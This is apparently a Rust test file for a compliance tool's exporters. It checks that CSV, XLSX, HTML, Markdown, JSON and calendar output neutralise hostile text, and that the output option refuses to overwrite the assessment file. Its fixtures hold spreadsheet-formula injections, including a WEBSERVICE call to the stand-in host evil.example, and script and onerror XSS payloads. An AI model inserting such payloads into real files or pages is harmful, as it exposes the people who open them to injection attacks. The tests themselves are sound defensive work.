//! Exports of untrusted text: formulas neutralised, HTML and Markdown escaped, no control characters, ICS folded; and where --output may write.

use super::*;

fn is_formula(s: &str) -> bool {
    s.trim_start().starts_with(['=', '+', '-', '@']) || s.starts_with(['\t', '\r'])
}

#[test]
fn csv_neutralises_formulas_and_keeps_the_text() {
    let (soa, _) = run(&["soa", "--format", "csv"], &hostile());
    let (plan, _) = run(&["plan", "--format", "csv"], &hostile());
    for csv in [&soa, &plan] {
        let rows = parse_csv(csv);
        let width = rows[0].len();
        for row in &rows {
            assert_eq!(row.len(), width, "{row:?}");
            for field in row {
                assert!(!is_formula(field), "formula in CSV: {field:?}");
                assert!(
                    !field.chars().any(|c| c.is_control() && c != '\n'),
                    "control character in {field:?}"
                );
            }
        }
    }
    let rows = parse_csv(&soa);
    let a51 = rows.iter().find(|r| r[0] == "A.5.1").expect("A.5.1");
    assert!(
        a51.contains(&"'@SUM(1+1) <i>owner</i>".to_string()),
        "{a51:?}"
    );
    assert!(
        a51.iter().any(|f| f.starts_with("'=1+1 \"just\"")),
        "{a51:?}"
    );
    let plan_rows = parse_csv(&plan);
    assert!(
        plan_rows.iter().any(|r| r
            .iter()
            .any(|f| f == "'=WEBSERVICE(\"http://evil.example\"), with; commas \\ and\nnew lines")),
        "{plan_rows:?}"
    );
}

/// Cells are written as strings, which Excel never runs as formulas, so
/// the text is kept as it is (no `'` in front: an auditor would read it);
/// cells that look like formulas carry the quote-prefix style as well.
#[test]
fn xlsx_writes_formula_looking_text_as_text() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("hostile.xlsx");
    run(
        &[
            "soa",
            "--format",
            "xlsx",
            "-o",
            path.to_str().expect("utf-8 path"),
        ],
        &hostile(),
    );
    let mut book: Xlsx<_> = open_workbook(&path).expect("open");
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} has formulas"
        );
        let range = book.worksheet_range(&sheet).expect("range");
        for (_, _, cell) in range.used_cells() {
            if let Data::String(s) = cell {
                assert!(!s.starts_with('\''), "{sheet}: {s:?}");
                assert!(!s.chars().any(|c| c.is_control() && c != '\n'), "{s:?}");
            }
        }
    }
    let (_, soa, _) = read_xlsx(&path);
    let a51 = soa.iter().find(|r| r[0] == "A.5.1").expect("A.5.1");
    assert!(a51.iter().any(|c| c == "@SUM(1+1) <i>owner</i>"), "{a51:?}");
    assert!(a51.iter().any(|c| c.starts_with("+cmd <a href")), "{a51:?}");
    // The quote-prefix style is in the workbook, and the formula-looking
    // cells use it.
    let file = std::fs::File::open(&path).expect("open");
    let mut zip = zip::ZipArchive::new(file).expect("zip");
    let mut styles = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/styles.xml").expect("styles"),
        &mut styles,
    )
    .expect("read styles");
    let xfs = styles
        .split("<cellXfs")
        .nth(1)
        .and_then(|s| s.split("</cellXfs>").next())
        .expect("cellXfs");
    let quoted: Vec<usize> = xfs
        .split("<xf ")
        .skip(1)
        .enumerate()
        .filter(|(_, xf)| xf.contains("quotePrefix=\"1\""))
        .map(|(i, _)| i)
        .collect();
    assert!(!quoted.is_empty(), "no quote-prefix style: {xfs}");
    let mut sheet = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/worksheets/sheet1.xml").expect("sheet"),
        &mut sheet,
    )
    .expect("read sheet");
    let prefixed = sheet
        .split("<c ")
        .filter(|c| {
            c.split("s=\"")
                .nth(1)
                .and_then(|s| s.split('"').next())
                .and_then(|s| s.parse::<usize>().ok())
                .is_some_and(|s| quoted.contains(&s))
        })
        .count();
    // The owner, the reliance and the justification of A.5.1, A.5.2's
    // owner, A.8.30's justification, at least.
    assert!(prefixed >= 5, "{prefixed} quote-prefixed cells");
}

#[test]
fn html_escapes_every_field() {
    let (html, _) = run(&["report", "--format", "html"], &hostile());
    for raw in [
        "<script",
        "</script",
        "<img",
        "<b>bold",
        "<i>owner",
        "<a href=\"javascript",
        "</li><script",
        "'org'",
        "\"Quoted\"",
    ] {
        assert!(!html.contains(raw), "unescaped {raw:?} in the HTML");
    }
    for escaped in [
        "&lt;script&gt;alert(&#39;org&#39;)&lt;/script&gt; &amp; &quot;Quoted&quot; Ltd",
        "&lt;img src=x onerror=alert(1)&gt; &#39;scope&#39; &quot;here&quot;",
        "&lt;script&gt;alert(&#39;notes&#39;)&lt;/script&gt;",
        "&lt;/li&gt;&lt;script&gt;alert(&#39;follow-up&#39;)&lt;/script&gt;",
        "-2+3 &lt;b&gt;bold&lt;/b&gt;",
        "@SUM(1+1) &lt;i&gt;owner&lt;/i&gt;",
        "+cmd &lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;",
        "=1+1 &quot;just&quot; &#39;ified&#39;",
        "&lt;script&gt;x&lt;/script&gt;",
    ] {
        assert!(html.contains(escaped), "missing {escaped:?}");
    }
    assert!(
        !html
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t'),
        "control characters in the HTML"
    );
    // Self-contained: nothing loaded from anywhere, no script at all.
    for banned in ["<script", "src=\"http", "href=\"http", "@import", "url("] {
        assert!(!html.contains(banned), "{banned}");
    }
    assert!(html.contains("Content-Security-Policy"));
}

#[test]
fn markdown_escapes_every_field() {
    for args in [
        ["report", "--format", "markdown"],
        ["soa", "--format", "markdown"],
        ["plan", "--format", "markdown"],
    ] {
        let (md, _) = run(&args, &hostile());
        // `\<` shows a literal `<`: only an unescaped one could be markup.
        let unescaped = md.replace("\\<", "");
        assert!(!unescaped.contains("<script"), "{args:?}\n{md}");
        assert!(!unescaped.contains("<b>bold"), "{args:?}");
        assert!(!unescaped.contains("<i>owner"), "{args:?}");
        assert!(md.contains("\\<script\\>"), "{args:?}");
        assert!(!md.contains('\u{1b}') && !md.contains('\u{7}'), "{args:?}");
    }
}

#[test]
fn json_and_text_carry_no_control_characters() {
    let (json, _) = run(&["report", "--format", "json"], &hostile());
    let v: serde_json::Value = serde_json::from_str(&json).expect("json");
    let org = v["organisation"].as_str().expect("organisation");
    assert!(org.starts_with("<script>alert('org')"), "{org}");
    assert!(!org.chars().any(char::is_control), "{org:?}");
    assert!(
        !json.contains("\\u001b") && !json.contains("\\u0007"),
        "{json}"
    );
    let (text, _) = run(&["report"], &hostile());
    assert!(!text.chars().any(|c| c.is_control() && c != '\n'));
}

#[test]
fn ics_escapes_text_and_folds_lines() {
    let (ics, _) = run(&["plan", "--format", "ics"], &hostile());
    assert!(ics.starts_with("BEGIN:VCALENDAR\r\n"));
    assert!(ics.ends_with("END:VCALENDAR\r\n"));
    for line in ics.split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line}", line.len());
        assert!(!line.contains('\n') && !line.contains('\r'));
    }
    let unfolded = ics.replace("\r\n ", "");
    assert!(
        unfolded.contains(
            "SUMMARY:A.5.2: =WEBSERVICE(\"http://evil.example\")\\, with\\; commas \\\\ and new lines\r\n"
        ),
        "{unfolded}"
    );
    assert!(unfolded.contains("DTSTART;VALUE=DATE:20270131\r\n"));
    assert_eq!(unfolded.matches("BEGIN:VEVENT").count(), 1);
}

// --- Writing files -------------------------------------------------------------

#[test]
fn output_refuses_to_overwrite_the_assessment() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("a.toml");
    std::fs::copy(example(), &file).expect("copy");
    std::fs::create_dir(dir.path().join("sub")).expect("mkdir");
    let before = std::fs::read(&file).expect("read");
    let same = [
        file.clone(),
        dir.path().join("sub/../a.toml"),
        dir.path().join(".").join("a.toml"),
    ];
    for target in &same {
        for args in [
            vec!["soa", "--format", "csv"],
            vec!["report", "--format", "html"],
            vec!["plan", "--format", "ics"],
        ] {
            let out = gapwalk()
                .arg(args[0])
                .arg(&file)
                .args(&args[1..])
                .arg("-o")
                .arg(target)
                .output()
                .expect("run");
            assert_eq!(
                out.status.code(),
                Some(2),
                "{args:?} -o {}",
                target.display()
            );
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(stderr.contains("is the assessment file itself"), "{stderr}");
            assert!(
                !stderr.contains("warning"),
                "refused before linting: {stderr}"
            );
            assert_eq!(std::fs::read(&file).expect("read"), before);
        }
    }
    #[cfg(unix)]
    {
        let link = dir.path().join("link.toml");
        std::os::unix::fs::symlink(&file, &link).expect("symlink");
        let out = gapwalk()
            .arg("soa")
            .arg(&file)
            .arg("-o")
            .arg(&link)
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(2));
        assert_eq!(std::fs::read(&file).expect("read"), before);
    }
}

#[test]
fn output_writes_the_same_bytes_as_stdout_and_replaces_old_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let target = dir.path().join("report.html");
    std::fs::write(&target, "old").expect("write");
    run(
        &[
            "report",
            "--format",
            "html",
            "-o",
            target.to_str().expect("utf-8"),
        ],
        &example(),
    );
    let (stdout, _) = run(&["report", "--format", "html"], &example());
    assert_eq!(std::fs::read_to_string(&target).expect("read"), stdout);
    let leftovers = std::fs::read_dir(dir.path()).expect("dir").count();
    assert_eq!(leftovers, 1, "a temporary file was left behind");
}

#[test]
fn output_into_a_missing_folder_is_an_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = gapwalk()
        .arg("plan")
        .arg(example())
        .arg("-o")
        .arg(dir.path().join("no/such/folder/plan.md"))
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("plan.md"));
}
